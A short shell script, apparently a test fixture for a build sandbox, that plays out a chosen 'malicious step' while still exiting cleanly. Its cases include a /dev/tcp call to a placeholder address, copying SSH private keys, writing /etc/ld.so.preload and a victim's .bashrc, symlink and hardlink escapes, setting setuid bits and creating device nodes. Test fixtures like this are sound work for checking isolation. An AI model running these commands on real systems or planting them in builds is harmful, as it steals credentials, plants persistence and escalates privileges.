# What a malicious step might do. Every deed goes on quietly: whoever looks at the exit code alone sees nothing.
exec 2>>spare/errors
echo made >out/report
case $DEED in
nothing) cat open.txt ;;
network) echo hello >/dev/tcp/198.51.100.7/80 ;;
key) cat "$VICTIM/home/.ssh/id_ed25519" >out/report ;;
home) cat "$HOME/.ssh/id_ed25519" >out/report; ls -A "$HOME" ;;
outside) echo stolen >"$VICTIM/home/.bashrc" ;;
root) echo stolen >/etc/ld.so.preload ;;
input) echo changed >open.txt; ln -f out/report open.txt ;;
undeclared) cat secret.txt ../neighbour.txt >out/report ;;
look) stat secret.txt ;;
extra) echo more >out/more ;;
daemon) setsid sleep 4711 & disown; echo started ;;
symlink) ln -sf "$VICTIM/home/.bashrc" out/report ;;
climb) ln -sf ../../neighbour.txt out/report ;;
hardlink) rm out/report; ln open.txt out/report ;;
keyring) ln -f "$VICTIM/home/.ssh/id_ed25519" out/report ;;
setid) chmod 4755 out/report ;;
fifo) ln -f out/report spare/was; mkfifo out/fifo; ln -f out/fifo out/report ;;
device) mknod out/device c 1 3 ;;
esac
exit 0
